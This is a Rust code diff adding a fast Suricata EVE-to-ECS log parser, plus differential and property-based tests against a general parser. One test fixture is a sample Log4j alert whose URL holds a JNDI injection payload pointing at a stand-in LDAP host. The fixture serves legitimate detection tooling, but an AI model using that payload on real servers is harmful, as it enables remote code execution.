+                        f.set("network.bytes", a.saturating_add(b));
+                    }
+                    let ts = f.copy_int(self.leaf(K::FlPktsTs), "source.packets");
+                    let tc = f.copy_int(self.leaf(K::FlPktsTc), "destination.packets");
+                    if let (Some(a), Some(b)) = (ts, tc) {
+                        f.set("network.packets", a.saturating_add(b));
+                    }
+                    if event_type == "flow" {
+                        f.copy_text(self.leaf(K::FlStart), "event.start");
+                        f.copy_text(self.leaf(K::FlEnd), "event.end");
+                    }
+                }
+                Sec::Netflow => {
+                    if let Some(b) = f.copy_int(self.leaf(K::NBytes), "source.bytes") {
+                        f.set("network.bytes", b);
+                    }
+                    if let Some(p) = f.copy_int(self.leaf(K::NPkts), "source.packets") {
+                        f.set("network.packets", p);
+                    }
+                    f.copy_text(self.leaf(K::NStart), "event.start");
+                    f.copy_text(self.leaf(K::NEnd), "event.end");
+                }
+                Sec::Ssh => {
+                    f.copy_text(self.leaf(K::SshClientHassh), "ssh.client.hassh");
+                    f.copy_text(self.leaf(K::SshClientSoftware), "ssh.client.software");
+                    f.copy_text(self.leaf(K::SshServerHassh), "ssh.server.hassh");
+                    f.copy_text(self.leaf(K::SshServerSoftware), "ssh.server.software");
+                }
+                Sec::Smtp => {
+                    if let Some(from) = self.leaf(K::MFrom).as_str() {
+                        f.set_text("email.from.address", strip_angle(from));
+                    }
+                    if let Some(list) = self.rcpt_to.take() {
+                        if !list.is_empty() {
+                            f.set("email.to.address", Value::List(list));
+                        }
+                    } else if let Some(s) = self.leaf(K::MRcpt).as_str() {
+                        f.set_text("email.to.address", strip_angle(s));
+                    }
+                }
+                Sec::Email => {
+                    f.copy_text(self.leaf(K::ESubject), "email.subject");
+                    f.copy_text(self.leaf(K::EMessageId), "email.message_id");
+                    if let Some(list) = self.attachments.take()
+                        && !list.is_empty()
+                    {
+                        f.set("email.attachments.file.name", Value::List(list));
+                    }
+                }
+                Sec::Other | Sec::Tcp | Sec::Top(_) => {}
+            }
+        }
+
+        fn map_alert(&mut self, f: &mut Ecs, severity: &mut u8) {
+            let mut cves = Vec::new();
+            if let Some(sig) = self.leaf(K::ASig).as_str() {
+                f.set_text("rule.name", sig);
+                f.set_text("message", sig);
+                find_cves(sig, &mut cves);
+            }
+            if let Some(id) = self.leaf(K::ASigId).text() {
+                f.set("rule.id", id);
+            }
+            if let Some(rev) = self.leaf(K::ARev).text() {
+                f.set("rule.version", rev);
+            }
+            f.copy_text(self.leaf(K::ACat), "rule.category");
+            if let Some(action) = self.leaf(K::AAction).as_str() {
+                f.set_text("event.action", action);
+            }
+            if let Some(s) = self.leaf(K::ASev).int() {
+                *severity = match s {
+                    i64::MIN..=1 => 80,
+                    2 => 60,
+                    3 => 40,
+                    _ => 20,
+                };
+            }
+            // In key order, as the general reader meets them; a later key
+            // naming the same MITRE field wins.
+            self.meta.sort_by(|a, b| a.0.cmp(&b.0));
+            let mut threat: [Option<&Vec<String>>; 4] = [None; 4];
+            for (k, items) in &self.meta {
+                let k_lower = k.to_ascii_lowercase();
+                if k_lower == "cve" || k_lower.starts_with("cve_") {
+                    for item in items {
+                        find_cves(item, &mut cves);
+                    }
+                }
+                let target = match k_lower.as_str() {
+                    "mitre_technique_id" => 0,
+                    "mitre_technique_name" => 1,
+                    "mitre_tactic_id" => 2,
+                    "mitre_tactic_name" => 3,
+                    _ => continue,
+                };
+                if !items.is_empty() {
+                    threat[target] = Some(items);
+                }
+            }
+            let names = [
+                "threat.technique.id",
+                "threat.technique.name",
+                "threat.tactic.id",
+                "threat.tactic.name",
+            ];
+            for (name, items) in names.into_iter().zip(threat) {
+                if let Some(items) = items {
+                    f.set(
+                        name,
+                        Value::List(items.iter().map(|s| Value::from(s.as_str())).collect()),
+                    );
+                }
+            }
+            if !cves.is_empty() {
+                f.set(
+                    "vulnerability.id",
+                    Value::List(cves.into_iter().map(Value::Str).collect()),
+                );
+            }
+        }
+
+        fn map_dns(&mut self, f: &mut Ecs) {
+            // v1 and v2: rrname/rrtype at the top of `dns`; v3 (Suricata
+            // 8): `queries[]`.
+            if let Some((rrname, rrtype)) = &self.query0 {
+                f.copy_text(rrname, "dns.question.name");
+                f.copy_text(rrtype, "dns.question.type");
+            } else {
+                f.copy_text(self.leaf(K::DRrname), "dns.question.name");
+                f.copy_text(self.leaf(K::DRrtype), "dns.question.type");
+            }
+            f.copy_text(self.leaf(K::DRcode), "dns.response_code");
+            if let Some(id) = self.leaf(K::DId).text() {
+                f.set("dns.id", id);
+            }
+            if let Some(t) = self.leaf(K::DType).as_str() {
+                f.set(
+                    "dns.type",
+                    if t == "query" || t == "request" {
+                        "question"
+                    } else {
+                        t
+                    },
+                );
+            }
+            let mut ips: Vec<Value> = Vec::new();
+            let rdata = self
+                .leaf(K::DRdata)
+                .as_str()
+                .and_then(|s| s.parse::<IpAddr>().ok());
+            for ip in rdata
+                .iter()
+                .chain(&self.answer_ips)
+                .chain(&self.grouped_a)
+                .chain(&self.grouped_aaaa)
+            {
+                let ip = Value::Ip(*ip);
+                if !ips.contains(&ip) {
+                    ips.push(ip);
+                }
+            }
+            if !ips.is_empty() {
+                f.set("dns.resolved_ip", Value::List(ips));
+            }
+        }
+    }
+
+    /// An array item as `Value::from_json_owned` makes it, read directly:
+    /// `None` for null, objects as their JSON text.
+    struct Elem;
+
+    impl<'de> DeserializeSeed<'de> for Elem {
+        type Value = Option<Value>;
+
+        fn deserialize<D: serde::Deserializer<'de>>(self, d: D) -> Result<Option<Value>, D::Error> {
+            d.deserialize_any(self)
+        }
+    }
+
+    impl<'de> Visitor<'de> for Elem {
+        type Value = Option<Value>;
+
+        fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+            f.write_str("a JSON value")
+        }
+
+        fn visit_bool<E: serde::de::Error>(self, v: bool) -> Result<Option<Value>, E> {
+            Ok(Some(Value::Bool(v)))
+        }
+
+        fn visit_i64<E: serde::de::Error>(self, v: i64) -> Result<Option<Value>, E> {
+            Ok(Some(Value::Int(v)))
+        }
+
+        fn visit_u64<E: serde::de::Error>(self, v: u64) -> Result<Option<Value>, E> {
+            Ok(i64::try_from(v).map_or(Leaf::U64(v), Leaf::Int).value())
+        }
+
+        fn visit_f64<E: serde::de::Error>(self, v: f64) -> Result<Option<Value>, E> {
+            Ok(Some(Value::Float(v)))
+        }
+
+        fn visit_str<E: serde::de::Error>(self, v: &str) -> Result<Option<Value>, E> {
+            Ok(Some(Value::Str(v.to_owned())))
+        }
+
+        fn visit_string<E: serde::de::Error>(self, v: String) -> Result<Option<Value>, E> {
+            Ok(Some(Value::Str(v)))
+        }
+
+        fn visit_unit<E: serde::de::Error>(self) -> Result<Option<Value>, E> {
+            Ok(None)
+        }
+
+        fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Option<Value>, A::Error> {
+            let mut list = Vec::new();
+            while let Some(v) = seq.next_element_seed(Elem)? {
+                list.extend(v);
+            }
+            Ok(Some(Value::List(list)))
+        }
+
+        fn visit_map<A: MapAccess<'de>>(self, map: A) -> Result<Option<Value>, A::Error> {
+            let obj: serde_json::Map<String, Json> =
+                serde::Deserialize::deserialize(serde::de::value::MapAccessDeserializer::new(map))?;
+            Ok(Some(Value::Str(Json::Object(obj).to_string())))
+        }
+    }
+
+    /// The record's top-level object.
+    struct TopVisitor<'a, 'de>(&'a mut State<'de>);
+
+    impl<'de> Visitor<'de> for TopVisitor<'_, 'de> {
+        type Value = ();
+
+        fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+            f.write_str("a JSON object")
+        }
+
+        fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<(), A::Error> {
+            let st = self.0;
+            while let Some(Key(k)) = map.next_key()? {
+                note_key(&k, &mut st.keys, 0)?;
+                let sec = sec_of(&k);
+                st.name.truncate(PREFIX.len());
+                st.name.push_str(&k);
+                st.sec_base = st.name.len() + 1;
+                map.next_value_seed(Node {
+                    st: &mut *st,
+                    sec,
+                    depth: 0,
+                })?;
+            }
+            st.name.truncate(PREFIX.len());
+            Ok(())
+        }
+    }
+
+    /// Notes a key of the object whose keys start at `start` in `keys`:
+    /// a repeated key (or an empty or dotted one) gives the record up.
+    /// Keys are compared by a 64-bit hash; two keys with one hash (all
+    /// but impossible) merely send the record to the general reader.
+    fn note_key<E: serde::de::Error>(k: &str, keys: &mut Vec<u64>, start: usize) -> Result<(), E> {
+        if k.is_empty() {
+            return Err(E::custom(GIVE_UP));
+        }
+        let mut h: u64 = 0xcbf2_9ce4_8422_2325;
+        for &b in k.as_bytes() {
+            if b == b'.' {
+                return Err(E::custom(GIVE_UP));
+            }
+            h = (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3);
+        }
+        if keys.get(start..).is_some_and(|ks| ks.contains(&h)) {
+            return Err(E::custom(GIVE_UP));
+        }
+        keys.push(h);
+        Ok(())
+    }
+
+    /// One value below a top-level key, at `depth` keys below it.
+    struct Node<'a, 'de> {
+        st: &'a mut State<'de>,
+        sec: Sec,
+        depth: u32,
+    }
+
+    impl Node<'_, '_> {
+        /// The value of a top-level key that is never kept, or that must be
+        /// text.
+        fn top(&self) -> Option<Top> {
+            match self.sec {
+                Sec::Top(t) if self.depth == 0 => Some(t),
+                _ => None,
+            }
+        }
+    }
+
+    impl<'de> DeserializeSeed<'de> for Node<'_, 'de> {
+        type Value = ();
+
+        fn deserialize<D: serde::Deserializer<'de>>(self, d: D) -> Result<(), D::Error> {
+            d.deserialize_any(self)
+        }
+    }
+
+    macro_rules! scalar {
+        ($self:ident, $leaf:expr) => {
+            $self
+                .st
+                .scalar($self.sec, $self.depth, $leaf)
+                .map_err(|()| E::custom(GIVE_UP))
+        };
+    }
+
+    impl<'de> Visitor<'de> for Node<'_, 'de> {
+        type Value = ();
+
+        fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+            f.write_str("a JSON value")
+        }
+
+        fn visit_bool<E: serde::de::Error>(self, v: bool) -> Result<(), E> {
+            scalar!(self, Leaf::Bool(v))
+        }
+
+        fn visit_i64<E: serde::de::Error>(self, v: i64) -> Result<(), E> {
+            scalar!(self, Leaf::Int(v))
+        }
+
+        fn visit_u64<E: serde::de::Error>(self, v: u64) -> Result<(), E> {
+            let leaf = i64::try_from(v).map_or(Leaf::U64(v), Leaf::Int);
+            scalar!(self, leaf)
+        }
+
+        fn visit_f64<E: serde::de::Error>(self, v: f64) -> Result<(), E> {
+            scalar!(self, Leaf::F64(v))
+        }
+
+        fn visit_borrowed_str<E: serde::de::Error>(self, v: &'de str) -> Result<(), E> {
+            scalar!(self, Leaf::Str(Cow::Borrowed(v)))
+        }
+
+        fn visit_str<E: serde::de::Error>(self, v: &str) -> Result<(), E> {
+            scalar!(self, Leaf::Str(Cow::Owned(v.to_owned())))
+        }
+
+        fn visit_string<E: serde::de::Error>(self, v: String) -> Result<(), E> {
+            scalar!(self, Leaf::Str(Cow::Owned(v)))
+        }
+
+        fn visit_unit<E: serde::de::Error>(self) -> Result<(), E> {
+            scalar!(self, Leaf::Absent)
+        }
+
+        fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<(), A::Error> {
+            match self.top() {
+                Some(t) if t.dropped() => {
+                    while seq.next_element::<IgnoredAny>()?.is_some() {}
+                    return Ok(());
+                }
+                Some(Top::EventType) => return Err(A::Error::custom(GIVE_UP)),
+                _ => {}
+            }
+            if self.depth > 0 && self.st.reads_items(self.sec) {
+                let mut items = Vec::new();
+                while let Some(v) = seq.next_element::<Json>()? {
+                    items.push(v);
+                }
+                self.st.array(self.sec, self.depth, items);
+            } else {
+                let list = Elem.visit_seq(seq)?.unwrap_or(Value::List(Vec::new()));
+                self.st.push_raw(self.sec, self.depth, list);
+            }
+            Ok(())
+        }
+
+        fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<(), A::Error> {
+            match self.top() {
+                Some(t) if t.dropped() => {
+                    while map.next_entry::<IgnoredAny, IgnoredAny>()?.is_some() {}
+                    return Ok(());
+                }
+                Some(Top::EventType) => return Err(A::Error::custom(GIVE_UP)),
+                _ => {}
+            }
+            let st = self.st;
+            if self.depth == 0 && !matches!(self.sec, Sec::Other | Sec::Top(_)) {
+                // A section is an object.
+                st.sections.push(self.sec);
+            }
+            let base = st.name.len();
+            let start = st.keys.len();
+            while let Some(Key(k)) = map.next_key()? {
+                note_key(&k, &mut st.keys, start)?;
+                st.name.push('.');
+                st.name.push_str(&k);
+                map.next_value_seed(Node {
+                    st: &mut *st,
+                    sec: self.sec,
+                    depth: self.depth + 1,
+                })?;
+                st.name.truncate(base);
+            }
+            st.keys.truncate(start);
+            Ok(())
+        }
+    }
 }
 
 #[cfg(test)]
@@ -758,6 +2010,263 @@ mod tests {
         let e = p(r#"{"event_type":"alert","event_type":"dns","sr\u0063_ip":"10.0.0.1"}"#);
         assert_eq!(e.fields.get_str("suricata.eve.event_type"), Some("dns"));
         assert!(e.fields.get("source.ip").is_some(), "escaped keys are read");
+    }
+
+    /// The event with its fields in name order, to compare the readers.
+    fn by_name(p: Parsed) -> (Option<Timestamp>, u8, Vec<(String, Value)>) {
+        let mut fields: Vec<(String, Value)> = p
+            .fields
+            .iter()
+            .map(|(n, v)| (n.to_owned(), v.clone()))
+            .collect();
+        fields.sort_by(|a, b| a.0.cmp(&b.0));
+        (p.timestamp, p.severity, fields)
+    }
+
+    /// The fast reader gives what the general reader gives, field order
+    /// aside, for every record it takes; says whether it took it.
+    fn same_as_general(line: &str) -> bool {
+        let general = parse_general(line);
+        match fast::parse(line) {
+            Some(got) => {
+                let want = general.unwrap_or_else(|e| panic!("{line}: fast read, general {e}"));
+                let names = got.fields.len();
+                let got = by_name(got);
+                let mut dedup: Vec<&String> = got.2.iter().map(|(n, _)| n).collect();
+                dedup.dedup();
+                assert_eq!(dedup.len(), names, "{line}: a name twice");
+                assert_eq!(got, by_name(want), "{line}");
+                true
+            }
+            None => false,
+        }
+    }
+
+    const LINES: &[&str] = &[
+        r#"{"timestamp":"2024-03-14T09:26:53.589793+0000","flow_id":1245631827309123,"in_iface":"eth0","event_type":"alert","src_ip":"203.0.113.77","src_port":44321,"dest_ip":"10.20.30.40","dest_port":8080,"proto":"TCP","pkt_src":"wire/pcap","community_id":"1:Qa82cl2bHpIRvy6bCKNJ8m5uFHc=","tx_id":0,"alert":{"action":"allowed","gid":1,"signature_id":2034647,"rev":3,"signature":"ET EXPLOIT Apache log4j RCE Attempt - lower/upper TCP Bypass (CVE-2021-44228)","category":"Attempted Administrator Privilege Gain","severity":1,"metadata":{"affected_product":["Apache_log4j"],"attack_target":["Server"],"created_at":["2021_12_10"],"cve":["CVE_2021_44228"],"deployment":["Perimeter","Internal"],"signature_severity":["Major"],"updated_at":["2021_12_14"]}},"http":{"hostname":"10.20.30.40","http_port":8080,"url":"/?x=${jndi:ldap://203.0.113.77:1389/a}","http_user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","http_content_type":"text/html","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":612},"app_proto":"http","direction":"to_server","flow":{"pkts_toserver":4,"pkts_toclient":3,"bytes_toserver":622,"bytes_toclient":1104,"start":"2024-03-14T09:26:53.512001+0000","src_ip":"203.0.113.77","dest_ip":"10.20.30.40","src_port":44321,"dest_port":8080}}"#,
+        r#"{"timestamp":"2024-03-14T09:26:54.001234+0000","flow_id":1835273662719283,"in_iface":"eth0","event_type":"dns","src_ip":"10.20.30.41","src_port":53412,"dest_ip":"10.20.0.2","dest_port":53,"proto":"UDP","dns":{"version":2,"type":"answer","id":48211,"flags":"8180","qr":true,"rrname":"updates.example.com","rrtype":"A","rcode":"NOERROR","answers":[{"rrname":"updates.example.com","rrtype":"CNAME","ttl":300,"rdata":"cdn.example.net"},{"rrname":"cdn.example.net","rrtype":"A","ttl":60,"rdata":"198.51.100.23"}],"grouped":{"A":["198.51.100.23"],"AAAA":["2001:db8::1"],"CNAME":["cdn.example.net"]}}}"#,
+        r#"{"event_type":"dns","dns":{"version":3,"type":"response","id":"7","rdata":"192.0.2.1","rcode":"NXDOMAIN","rrname":"ignored.org","queries":[{"rrname":"y.net","rrtype":"AAAA"},{"rrname":"z"}]}}"#,
+        r#"{"event_type":"dns","dns":{"queries":[5,{"rrname":"y.net"}],"rrname":"x.org","rrtype":28}}"#,
+        r#"{"event_type":"tls","tls":{"subject":"CN=*.google.com","issuerdn":"C=US","serial":"0A:1B","fingerprint":"3f:6a:1e:4b:9c:88:12:aa:bb:cc:dd:ee:ff:00:11:22:33:44:55:66","sni":" www.google.com ","version":"TLSv1.2","notbefore":"2024-02-19T08:04:45","ja3":{"hash":"cd08","string":"771"},"ja3s":{"hash":"eb1d"},"ja4":{"hash":"t13d"}}}"#,
+        r#"{"event_type":"flow","flow_id":18446744073709551615,"parent_id":1.5,"app_proto":"failed","proto":17,"src_ip":"not an ip","dest_ip":["10.0.0.1"],"src_port":"80","dest_port":{"a":1},"community_id":12,"in_iface":"-","flow":{"pkts_toserver":6,"pkts_toclient":4.0,"bytes_toserver":"425","bytes_toclient":495,"start":"s","end":"e","big":18446744073709551615,"neg":-3,"f":1e300}}"#,
+        r#"{"event_type":"netflow","netflow":{"bytes":7,"pkts":2,"start":"ns","end":"ne"},"flow":5}"#,
+        r#"{"event_type":"alert","alert":{"signature":"cve-2020-1234 and CVE_2019_0001","signature_id":"x","rev":1.5,"category":true,"action":"blocked","severity":"3","metadata":{"CVE":["CVE-2018-1111"],"cve_extra":"CVE-2017-2222","cve":[{"a":"CVE-2016-3333"},"CVE-2015-4444",null],"MITRE_TECHNIQUE_ID":["T1"],"mitre_technique_id":["T2"],"mitre_tactic_name":"Initial Access","mitre_tactic_id":5}}}"#,
+        r#"{"event_type":"smtp","smtp":{"mail_from":"<a@b.org>","rcpt_to":["<c@d.org>",3,"e@f.org"]},"email":{"subject":"hi","message_id":"<m>","attachment":["a.exe",null,{"n":1},[1]]}}"#,
+        r#"{"event_type":"smtp","smtp":{"rcpt_to":"<c@d.org>"},"ssh":{"client":{"software_version":"OpenSSH","hassh":{"hash":"h1"}},"server":{"hassh":{"hash":"h2"}}}}"#,
+        r#"{"event_type":"  anomaly ","timestamp":"not a time","anomaly":{"type":"decode","event":"x\u0041y"},"sr\u0063_ip":"10.0.0.1","a":{},"b":[],"c":null,"d":{"e":{"f":{"g":[{"z":1,"a":2}]}}}}"#,
+        r#"{"event_type":"http","http":{"hostname":"h","url":"/\"q\"","http_method":"GET","status":"200","protocol":"HTTP/2","length":-1,"http_refer":"-"}}"#,
+        r#"{"event_type":"fileinfo","fileinfo":{"filename":"a.exe","md5":"m","sha1":"s1","sha256":"00ff","size":3,"mimetype":"x/y"}}"#,
+        r#"{"event_type":"stats","stats":{"uptime":1,"decoder":{"pkts":2}}}"#,
+    ];
+
+    #[test]
+    fn fast_reader_matches_general_reader() {
+        for line in LINES {
+            assert!(same_as_general(line), "the fast reader should take {line}");
+        }
+        // Left to the general reader: repeated, dotted or empty keys, an
+        // odd or missing event_type, what is not an object.
+        for line in [
+            r#"{"event_type":"dns","dns.rrname":"a.org","dns":{"rrname":"b.org"}}"#,
+            r#"{"event_type":"dns","dns":{"rrname":"a.org"},"dns":{"rrname":"b.org"}}"#,
+            r#"{"event_type":"dns","dns":{"rrname":"a.org","rrname":null}}"#,
+            r#"{"event_type":"x","":{"a":1},"a":2}"#,
+            r#"{"event_type":"netflow","netflow":{"bytes":7},"flow":{"bytes_toserver":1}}"#,
+            r#"{"event_type":"alert","event_type":"dns"}"#,
+            r#"{"event_type":" "}"#,
+            r#"{"event_type":{"a":1}}"#,
+            r#"{"a":1}"#,
+            r#"{"event_type":"x"} x"#,
+            "[1]",
+            "",
+        ] {
+            assert!(!same_as_general(line), "{line}");
+        }
+    }
+
+    #[test]
+    fn fast_reader_matches_general_reader_on_the_corpus() {
+        let root = std::env::var_os("GARRISON_CORPUS").map_or_else(
+            || {
+                std::path::PathBuf::from(concat!(
+                    env!("CARGO_MANIFEST_DIR"),
+                    "/../../../shared/corpus"
+                ))
+            },
+            std::path::PathBuf::from,
+        );
+        let mut dirs: Vec<std::path::PathBuf> = ["events", "public/events", "holdout/events"]
+            .iter()
+            .map(|d| root.join(d).join("suricata"))
+            .collect();
+        let (mut taken, mut total) = (0usize, 0usize);
+        while let Some(dir) = dirs.pop() {
+            let Ok(rd) = std::fs::read_dir(&dir) else {
+                continue;
+            };
+            for e in rd.flatten() {
+                let path = e.path();
+                if path.is_dir() {
+                    dirs.push(path);
+                } else if path.extension().is_some_and(|x| x == "json") {
+                    let text = std::fs::read_to_string(&path).unwrap_or_default();
+                    for line in text.lines().filter(|l| !l.trim().is_empty()) {
+                        total += 1;
+                        taken += usize::from(same_as_general(line));
+                    }
+                }
+            }
+        }
+        eprintln!("fast reader: {taken} of {total} corpus lines");
+    }
+
+    mod differential {
+        use proptest::prelude::*;
+        use serde_json::{Map, Value as Json};
+
+        fn key() -> impl Strategy<Value = String> {
+            prop_oneof![
+                prop::sample::select(vec![
+                    "timestamp",
+                    "src_ip",
+                    "dest_ip",
+                    "src_port",
+                    "dest_port",
+                    "proto",
+                    "app_proto",
+                    "community_id",
+                    "in_iface",
+                    "flow_id",
+                    "parent_id",
+                    "alert",
+                    "signature",
+                    "signature_id",
+                    "rev",
+                    "category",
+                    "action",
+                    "severity",
+                    "metadata",
+                    "cve",
+                    "CVE",
+                    "cve_x",
+                    "mitre_technique_id",
+                    "mitre_tactic_name",
+                    "dns",
+                    "rrname",
+                    "rrtype",
+                    "rcode",
+                    "id",
+                    "type",
+                    "rdata",
+                    "queries",
+                    "answers",
+                    "grouped",
+                    "A",
+                    "AAAA",
+                    "http",
+                    "hostname",
+                    "url",
+                    "status",
+                    "protocol",
+                    "length",
+                    "tls",
+                    "sni",
+                    "version",
+                    "ja3",
+                    "ja3s",
+                    "ja4",
+                    "hash",
+                    "fingerprint",
+                    "fileinfo",
+                    "size",
+                    "sha256",
+                    "flow",
+                    "bytes_toserver",
+                    "bytes_toclient",
+                    "pkts_toserver",
+                    "pkts_toclient",
+                    "start",
+                    "end",
+                    "netflow",
+                    "bytes",
+                    "pkts",
+                    "ssh",
+                    "client",
+                    "server",
+                    "hassh",
+                    "software_version",
+                    "smtp",
+                    "mail_from",
+                    "rcpt_to",
+                    "email",
+                    "subject",
+                    "attachment",
+                    "a.b",
+                    "",
+                ])
+                .prop_map(str::to_owned),
+                "[a-z]{1,3}",
+            ]
+        }
+
+        fn json() -> impl Strategy<Value = Json> {
+            let leaf = prop_oneof![
+                Just(Json::Null),
+                any::<bool>().prop_map(Json::Bool),
+                any::<i64>().prop_map(Json::from),
+                any::<u64>().prop_map(Json::from),
+                (-1.0e20..1.0e20f64).prop_map(Json::from),
+                Just(Json::from(4.0)),
+                "[ -~]{0,6}".prop_map(Json::String),
+                prop::sample::select(vec![
+                    "10.0.0.1",
+                    "::1",
+                    " 10.0.0.2",
+                    "2016-07-13T22:42:07.573103+0000",
+                    "CVE-2021-44228",
+                    "cve_2019_1234",
+                    "<a@b>",
+                    "-",
+                    " ",
+                    "TLSv1.2",
+                    "SSL 3",
+                    "HTTP/1.0",
+                    "query",
+                    "drop",
+                    "\"q\"\n",
+                    "aa:bb:cc:dd:ee:ff:00:11:22:33:44:55:66:77:88:99:aa:bb:cc:dd",
+                ])
+                .prop_map(|s| Json::String(s.to_owned())),
+            ];
+            leaf.prop_recursive(4, 40, 6, |inner| {
+                prop_oneof![
+                    prop::collection::vec(inner.clone(), 0..4).prop_map(Json::Array),
+                    prop::collection::vec((key(), inner), 0..6)
+                        .prop_map(|kv| Json::Object(kv.into_iter().collect::<Map<_, _>>())),
+                ]
+            })
+        }
+
+        proptest! {
+            #![proptest_config(ProptestConfig::with_cases(1024))]
+
+            #[test]
+            fn both_readers_agree(
+                obj in prop::collection::vec((key(), json()), 0..10),
+                event_type in prop::sample::select(vec!["alert", "dns", "flow", "netflow", "anomaly", "stats", "x"]),
+                at in any::<prop::sample::Index>(),
+            ) {
+                // Written by hand so that repeated keys stay in the line.
+                let mut parts: Vec<String> = obj
+                    .iter()
+                    .map(|(k, v)| format!("{}:{v}", Json::String(k.clone())))
+                    .collect();
+                let i = at.index(parts.len() + 1);
+                parts.insert(i, format!("\"event_type\":\"{event_type}\""));
+                let line = format!("{{{}}}", parts.join(","));
+                super::same_as_general(&line);
+            }
+        }
     }
 
     #[test]
